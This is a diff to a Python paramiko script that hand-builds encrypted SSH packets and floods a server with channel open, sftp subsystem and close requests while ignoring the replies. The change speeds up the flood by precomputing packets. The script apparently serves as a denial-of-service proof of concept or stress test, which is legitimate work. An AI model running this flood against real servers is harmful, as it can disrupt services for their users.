@@ -148,6 +148,8 @@ def churn_channels(transport: paramiko.Transport) -> None:
     private.packetizer.read_message = partial(throw_away, transport.sock)
     send_raw(transport, ssh_message(_GLOBAL_REQUEST, b"?", True))  # the answer ends the last read
     sealer = Sealer(transport)
+    opening = ssh_message(_CHANNEL_OPEN, b"session", 0, 1 << 20, 1 << 15).asbytes()
+    subsystem = string(b"subsystem") + b"\0" + string(b"sftp")
     sock: Any = transport.sock
     sock.settimeout(None)
     print("ready", flush=True)
@@ -155,9 +157,10 @@ def churn_channels(transport: paramiko.Transport) -> None:
         batch = b""
         for _ in range(100):
             number += 1
-            batch += sealer.seal(_CHANNEL_OPEN, b"session", 0, 1 << 20, 1 << 15)
-            batch += sealer.seal(_CHANNEL_REQUEST, number, b"subsystem", False, b"sftp")
-            batch += sealer.seal(_CHANNEL_CLOSE, number)
+            recipient = pack(">I", number)
+            batch += sealer.seal(opening)
+            batch += sealer.seal(bytes([_CHANNEL_REQUEST]) + recipient + subsystem)
+            batch += sealer.seal(bytes([_CHANNEL_CLOSE]) + recipient)
         sock.sendall(batch)
 
 
@@ -170,9 +173,8 @@ class Sealer:
         nonce = packetizer._Packetizer__iv_out
         self._fixed, self._counter = nonce[:4], int.from_bytes(nonce[4:], "big")
 
-    def seal(self, kind: int, *parts: int | bytes) -> bytes:
+    def seal(self, payload: bytes) -> bytes:
         """Return a packet (RFC 5647)."""
-        payload = ssh_message(kind, *parts).asbytes()
         padding = 4 + -(len(payload) + 5) % 16
         length = pack(">I", 1 + len(payload) + padding)
         nonce = self._fixed + self._counter.to_bytes(8, "big")
